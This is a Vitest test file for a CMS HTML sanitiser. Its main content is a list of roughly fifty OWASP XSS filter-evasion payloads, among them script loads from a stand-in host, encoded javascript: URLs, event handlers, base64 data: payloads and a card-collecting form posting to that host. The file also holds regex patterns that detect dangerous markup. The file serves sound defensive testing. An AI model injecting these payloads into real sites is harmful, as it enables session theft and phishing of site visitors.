import { describe, expect, it } from "vitest";
import { cmsText, sanitiseCmsHtml } from "./sanitise.server";

// Issue 18 item 6 (decision 116): hostile HTML from the OWASP XSS filter-evasion cheat sheet, row by row. Whatever
// survives must hold no script, no event handler, no style, no frame and no address a browser would run.
const HOSTILE: Array<[name: string, html: string]> = [
  ["script tag", `<SCRIPT SRC=https://xss.test/xss.js></SCRIPT>`],
  ["image with a javascript: source", `<IMG SRC="javascript:alert('XSS');">`],
  ["no quotes and no semicolon", `<IMG SRC=javascript:alert('XSS')>`],
  ["case-insensitive scheme", `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ["grave accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"],
  ["malformed anchor", `<a onmouseover="alert(document.cookie)">xxs link</a>`],
  ["malformed img tags", `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`],
  ["fromCharCode", `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`],
  ["onerror on a missing source", `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`],
  ["onerror without quotes", `<img src=x onerror=alert(1)>`],
  [
    "decimal entities",
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
  ],
  [
    "decimal entities without semicolons, zero-padded",
    `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>`,
  ],
  [
    "hex entities without semicolons",
    `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
  ],
  ["embedded tab", `<a href="jav	ascript:alert('XSS');">x</a>`],
  ["encoded tab", `<a href="jav&#x09;ascript:alert('XSS');">x</a>`],
  ["encoded newline", `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`],
  ["encoded carriage return", `<a href="jav&#x0D;ascript:alert('XSS');">x</a>`],
  ["null byte", `<a href="java\0script:alert('XSS')">x</a>`],
  ["spaces and meta characters before the scheme", `<a href=" &#14;  javascript:alert('XSS');">x</a>`],
  ["non-alpha-non-digit", `<SCRIPT/XSS SRC="https://xss.test/xss.js"></SCRIPT>`],
  ["body onload", `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`],
  ["extraneous open brackets", `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`],
  ["no closing script tag", `<SCRIPT SRC=https://xss.test/xss.js?< B >`],
  ["half-open html", `<IMG SRC="\`<javascript:alert>\`('XSS')"`],
  ["end title tag", `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`],
  ["input image", `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ["body background", `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ["img dynsrc and lowsrc", `<IMG DYNSRC="javascript:alert('XSS')"><IMG LOWSRC="javascript:alert('XSS')">`],
  ["list-style-image", `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`],
  ["vbscript", `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ["svg onload", `<svg/onload=alert('XSS')>`],
  ["svg script", `<svg><script>alert(1)</script></svg>`],
  ["meta refresh", `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  [
    "meta refresh with data:",
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  ],
  ["iframe", `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ["iframe from another site", `<iframe src="https://video.example/embed/1"></iframe>`],
  ["frameset", `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ["table background", `<TABLE BACKGROUND="javascript:alert('XSS')"><TD BACKGROUND="javascript:alert('XSS')">`],
  ["div background-image", `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ["div expression", `<DIV STYLE="width: expression(alert('XSS'));">`],
  ["style tag import", `<STYLE>@import'https://xss.test/xss.css';</STYLE>`],
  ["base tag", `<BASE HREF="javascript:alert('XSS');//">`],
  ["object", `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.test/scriptlet.html"></OBJECT>`],
  [
    "embed with data:",
    `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  ],
  ["downlevel-hidden comment", `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`],
  ["link to data: html", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
  ["image from data:", `<img src="data:image/svg+xml,<svg onload=alert(1)>">`],
  ["protocol-relative link", `<a href="//xss.test/">x</a>`],
  ["form posting elsewhere", `<form action="https://xss.test/"><input name="card"><button>Pay</button></form>`],
  [
    "mathml xlink",
    `<math><maction actiontype="statusline" xlink:href="javascript:alert('XSS')">CLICKME</maction></math>`,
  ],
  ["event handler on an allowed tag", `<p onclick="alert(1)" style="color:red">text</p>`],
  ["template", `<template><img src=x onerror=alert(1)></template>`],
  ["noscript breakout", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`],
];

describe("sanitiseCmsHtml: the OWASP filter-evasion cases", () => {
  it.each(HOSTILE)("%s", (_name, html) => {
    const out = sanitiseCmsHtml(html);
    expect(out).not.toMatch(
      /<\s*(script|style|iframe|frame|frameset|object|embed|form|input|button|base|meta|link|svg|math|body|template|noscript)\b/i,
    );
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/\sstyle\s*=/i);
    expect(out).not.toMatch(/(href|src|background|dynsrc|lowsrc)\s*=\s*["']?\s*(javascript|vbscript|data):/i);
    expect(out).not.toMatch(/href="\/\//);
  });
});

describe("sanitiseCmsHtml: what content keeps", () => {
  it("text formatting, lists, tables, headings (an h1 becomes an h2) and entities as they were", () => {
    const html = `<h1>Size guide</h1><p>Tom &amp; Jerry <strong>wear</strong> <em>L</em>.</p><ol><li>One</li></ol><table><tr><th scope="col">Size</th></tr><tr><td colspan="2">S</td></tr></table>`;
    expect(sanitiseCmsHtml(html)).toBe(
      `<h2>Size guide</h2><p>Tom &amp; Jerry <strong>wear</strong> <em>L</em>.</p><ol><li>One</li></ol><table><tr><th scope="col">Size</th></tr><tr><td colspan="2">S</td></tr></table>`,
    );
  });

  it("links: site-relative and mailto kept as they are; another site's gets rel=noopener noreferrer and loses its target", () => {
    expect(sanitiseCmsHtml(`<a href="/cms/size-guide" target="_blank" rel="opener">in</a>`)).toBe(
      `<a href="/cms/size-guide">in</a>`,
    );
    expect(sanitiseCmsHtml(`<a href="mailto:orders@workwear.test">mail</a>`)).toBe(
      `<a href="mailto:orders@workwear.test">mail</a>`,
    );
    expect(sanitiseCmsHtml(`<a href="https://hse.gov.uk/ppe" target="_blank">HSE</a>`)).toBe(
      `<a href="https://hse.gov.uk/ppe" rel="noopener noreferrer">HSE</a>`,
    );
  });

  it("images: https and site-relative sources with their alt text (empty when none); http and data: sources dropped", () => {
    expect(sanitiseCmsHtml(`<img src="/images/products/hv200-yellow.svg" alt="Hi-vis jacket" width="200">`)).toBe(
      `<img src="/images/products/hv200-yellow.svg" alt="Hi-vis jacket" width="200" />`,
    );
    expect(sanitiseCmsHtml(`<img src="https://cdn.workwear.test/a.png">`)).toBe(
      `<img src="https://cdn.workwear.test/a.png" alt="" />`,
    );
    expect(sanitiseCmsHtml(`<p>a<img src="http://cdn.workwear.test/a.png">b</p>`)).toBe(`<p>ab</p>`);
  });

  it("what a dropped container held is dropped with it when it is code, kept when it is text", () => {
    expect(sanitiseCmsHtml(`<p>before</p><script>alert(1)</script><style>p{}</style><p>after</p>`)).toBe(
      `<p>before</p><p>after</p>`,
    );
    expect(sanitiseCmsHtml(`<center>kept text</center>`)).toBe(`kept text`);
  });
});

describe("cmsText", () => {
  it("the text only, entities decoded, white space folded, code dropped", () => {
    expect(cmsText(`<p>Tom &amp; <b>Jerry</b> &#8211; &lt;tag&gt; caf&eacute;</p>\n<script>alert(1)</script>`)).toBe(
      "Tom & Jerry – <tag> café",
    );
    expect(cmsText(`EN ISO 20345:2022 &#8211; what changes`)).toBe("EN ISO 20345:2022 – what changes");
    expect(cmsText(`<img src=x onerror=alert(1)>`)).toBe("");
  });
});
